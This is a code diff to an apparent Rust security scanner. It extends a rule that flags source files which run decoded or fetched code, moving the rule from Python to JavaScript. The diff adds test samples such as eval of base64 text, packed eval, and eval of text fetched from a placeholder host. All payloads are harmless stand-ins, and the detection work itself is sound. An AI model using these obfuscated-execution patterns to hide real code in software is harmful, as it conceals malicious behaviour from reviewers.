@@ -1,4 +1,4 @@
-//! Python sources that run what they decode or fetch.
+//! Sources that run what they decode or fetch.
 
 use weighbridge_domain::{Confidence, Severity};
 
@@ -6,23 +6,59 @@ use super::source::{self, Scale, Told};
 use super::{Check, Example, Findings, Light, Rule};
 use crate::facts::Facts;
 use crate::known::effects::Effect;
+use crate::samples::script::{function as script_function, page, script};
 use crate::samples::source::{forward, function, module};
 use crate::text;
 
-/// Python sources that run what they decode or fetch.
+/// Sources that run what they decode or fetch.
 pub static RULE: Rule = Rule {
     id: "source-decodes-and-runs",
     severity: Severity::Critical,
     confidence: Confidence::High,
     light: Light::Content,
     since: "0.1.0",
-    summary: "A Python source runs what it decodes or fetches",
+    summary: "A source runs what it decodes or fetches",
     why: "Code is encoded, compressed or left on another host so that nobody who reads the source reads it. Critical when it \
           runs as soon as the file is imported or installed, high while the model is loaded or answers, medium in a function \
-          that somebody has to call. Constants are decoded and read: what they do is reported beside this.",
+          that somebody has to call. Constants are decoded and read: what they do is reported beside this. A step milder in \
+          scripts that no loader of models runs by itself (JavaScript).",
     advice: "Do not import the file. Decode the text elsewhere if you have to know what it does.",
     references: &["CWE-506", "CWE-94", "AML.T0010", "AML.T0011"],
     examples: &[
+        Example { name: "javascript", files: || script("eval(atob('dm9pZCAw'))"), fires: FIRES },
+        Example { name: "javascript-twin", files: || script("console.log(atob('dm9pZCAw'))"), fires: &[] },
+        Example {
+            name: "javascript-buffer",
+            files: || {
+                script("const code = Buffer.from('dm9pZCAw', 'base64').toString();\nnew Function(code)()")
+            },
+            fires: FIRES,
+        },
+        Example {
+            name: "javascript-buffer-twin",
+            files: || script("const text = Buffer.from('dm9pZCAw', 'base64').toString();\nnew Text(text)"),
+            fires: &[],
+        },
+        Example {
+            name: "javascript-characters",
+            files: || page("window['eval'](String.fromCharCode(118, 111, 105, 100, 32, 48))"),
+            fires: FIRES,
+        },
+        Example {
+            name: "javascript-fetched",
+            files: || script("eval(await (await fetch('https://demo.invalid')).text())"),
+            fires: &["source-decodes-and-runs", "source-opens-network"],
+        },
+        Example {
+            name: "javascript-packed",
+            files: || script("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'void|0'.split('|'),0,{}))"),
+            fires: FIRES,
+        },
+        Example {
+            name: "javascript-function",
+            files: || script_function("setTimeout(unescape('void%200'), 1)"),
+            fires: FIRES,
+        },
         Example {
             name: "base64",
             files: || module("import base64\nexec(base64.b64decode('cHJpbnQoImRlbW8iKQ=='))"),
@@ -120,7 +156,11 @@ fn check(facts: &Facts, findings: &mut Findings<'_>) {
             let by = text::shown(&by.to_string(), 60);
             // A cell of a notebook is there to be run.
             let least = if place.format() == "notebook-cell" { Severity::High } else { Severity::Medium };
-            let severity = source::at(SCALE, one.when).max(least);
+            let severity = match &*by {
+                // Libraries of another time were shipped like that.
+                "unpacker.unpack" => Severity::Medium,
+                _ => source::at_for(SCALE, one).max(least),
+            };
             told.add(findings, place, one, severity, &format!("runs what `{by}` {verb},"));
         }
     }
